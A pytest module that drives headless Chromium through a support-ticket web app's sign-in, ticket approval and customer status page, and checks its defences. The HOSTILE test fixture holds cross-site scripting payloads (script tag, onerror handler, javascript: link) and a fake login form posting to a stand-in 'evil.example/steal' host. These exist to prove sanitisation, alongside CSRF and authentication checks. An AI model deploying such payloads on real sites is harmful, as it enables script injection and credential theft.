"""The web view in real headless Chromium (Debian's package, driven by Playwright), served by uvicorn.

The walk a new colleague takes: sign in by the link in the outbox, find a ticket by serial number,
open it, approve it, see the customer's mail in the outbox and open the status page from it; and
the hostile cases. Screenshots at 1280×800 go to docs/screenshots/ for reviewers.
"""

from __future__ import annotations

import email
import email.policy
import os
import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from sqlmodel import select

from mailbot.config import Web
from mailbot.store.models import Outbox
from mailbot.web import create_app
from tests.conftest import REPO
from tests.pipeline.helpers import drop, run_once
from tests.web.conftest import COMPLETE

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SHOTS = REPO / "docs" / "screenshots"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]

if not Path(CHROMIUM).exists():
    if os.environ.get("CI"):
        pytest.fail("chromium is required under CI: apt-get install chromium (see .ci/run)")
    pytest.skip("chromium not installed (apt-get install chromium)", allow_module_level=True)

sync_api = pytest.importorskip("playwright.sync_api")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Served:
    """uvicorn serving the app in a thread of the test process, stopped at the end."""

    def __init__(self, app: Any, port: int) -> None:
        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> Served:
        self.thread.start()
        for _ in range(500):  # waiting for the socket to listen, not for a job
            if self.server.started:
                return self
            time.sleep(0.01)
        raise RuntimeError("uvicorn did not start")

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(10)


def _html_mail(sender: str, subject: str, text: str, html: str) -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, "service@lumatek-example.com", subject
    msg["Message-ID"] = make_msgid(domain="example.org")
    msg.set_content(text)
    msg.add_alternative(html, subtype="html")
    return msg.as_bytes()


HOSTILE = """<p id="customer-text">Our OZ-SFP-10G-LR (S/N: OZ2311A0099, order SO-2026-0815) shows no Rx light.</p>
<script>window.__pwned = 1; alert('x')</script>
<img src="x" onerror="window.__pwned = 2">
<a id="js-link" href="javascript:window.__pwned=3">details</a>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<style>body { display: none }</style>"""


@pytest.fixture
def web(make_ctx: Any) -> Iterator[tuple[Any, str]]:
    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    ctx = make_ctx(web=Web(base_url=base))
    with Served(create_app(ctx, public_url=base), port):
        yield ctx, base


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One Chromium for the module: each test opens pages in browser contexts of its own (no shared cookies
    or storage), and starting the browser costs more than a page."""
    with sync_api.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS, timeout=30_000)
        try:
            yield chromium
        finally:
            chromium.close()


def _outbox(ctx: Any) -> list[Outbox]:
    with ctx.sessions() as s:
        return list(s.exec(select(Outbox).order_by(Outbox.id)).all())


def _body(row: Outbox) -> str:
    msg = email.message_from_bytes(row.raw, policy=email.policy.default)
    return msg.get_body(("plain",)).get_content()  # type: ignore[union-attr]


def _sign_in(page: Any, ctx: Any, base: str, address: str) -> None:
    page.goto(f"{base}/signin")
    page.fill("input[name=email]", address)
    page.click("button[type=submit]")
    page.wait_for_selector("#sent")
    [row] = [o for o in _outbox(ctx) if o.template == "staff_signin" and address in o.recipients][-1:]
    link = re.search(rf"{re.escape(base)}/signin/\S+", _body(row))
    assert link, _body(row)
    page.goto(link.group(0))
    page.click("#signin")
    page.wait_for_url(f"{base}/tickets")


def test_sign_in_find_approve_and_follow_the_customer_link(web: tuple[Any, str], browser: Any) -> None:
    ctx, base = web
    drop(ctx, _html_mail("Maria Costa <maria@fibrenet.example.pt>", "Faulty SFP module", COMPLETE, HOSTILE))
    drop(ctx, _html_mail("Tom <tom@acme-example.de>", "No power", "MC-2200, S/N MC22009911, dead", "<p>dead</p>"))
    run_once(ctx)
    SHOTS.mkdir(parents=True, exist_ok=True)
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

    _sign_in(page, ctx, base, "sales@example.com")
    page.screenshot(path=str(SHOTS / "list.png"))

    page.fill("input[name=q]", "OZ2311A0042")
    page.click("form.filters button[type=submit]")
    links = page.locator("table.list tbody a")
    assert links.all_inner_texts() == ["REQ-2026-00001"]
    links.first.click()
    page.wait_for_url(f"{base}/tickets/REQ-2026-00001")
    assert "no Rx light" in page.locator(".html-body").first.inner_text()
    assert page.evaluate("window.__pwned") is None and dialogs == []  # the customer's script stayed inert
    assert page.locator("form[action^='https://evil']").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    page.screenshot(path=str(SHOTS / "ticket.png"))

    page.click("form.action button[value=approve]")
    page.wait_for_selector("#flash")
    assert "rma_issued" in page.inner_text("#flash")
    [mail] = [o for o in _outbox(ctx) if o.template == "customer_rma_issued"]
    assert mail.recipients == ["maria@fibrenet.example.pt"]
    status_link = re.search(rf"{re.escape(base)}/status/\S+", _body(mail))
    assert status_link, _body(mail)

    customer = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    customer.goto(status_link.group(0))
    assert "RMA-2026-00001" in customer.inner_text("h1")
    assert "sales@example.com" not in customer.content()
    customer.screenshot(path=str(SHOTS / "status.png"))

    manager = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    _sign_in(manager, ctx, base, "manager@example.com")
    manager.goto(f"{base}/dashboard")
    assert manager.inner_text("#open-total") == "2"
    manager.screenshot(path=str(SHOTS / "dashboard.png"))


def test_hostile_requests_change_nothing(web: tuple[Any, str], browser: Any) -> None:
    ctx, base = web
    drop(ctx, _html_mail("Maria Costa <maria@fibrenet.example.pt>", "Faulty SFP module", COMPLETE, HOSTILE))
    run_once(ctx)
    page = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()

    page.goto(f"{base}/status/kjgucljsgazdmljqgaydami.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")
    assert page.inner_text("h1") == "link not valid"

    assert page.request.post(f"{base}/tickets/REQ-2026-00001/action", form={"action": "approve"}).status == 401
    _sign_in(page, ctx, base, "sales@example.com")
    no_csrf = page.request.post(f"{base}/tickets/REQ-2026-00001/action", form={"action": "approve"})
    assert no_csrf.status == 403
    wrong_csrf = page.request.post(f"{base}/tickets/REQ-2026-00001/action", form={"action": "approve", "csrf": "guess"})
    assert wrong_csrf.status == 403
    assert [o for o in _outbox(ctx) if o.template == "customer_rma_issued"] == []
    page.goto(f"{base}/tickets/REQ-2026-00001")
    assert page.locator(".state").first.inner_text() == "waiting_rep"
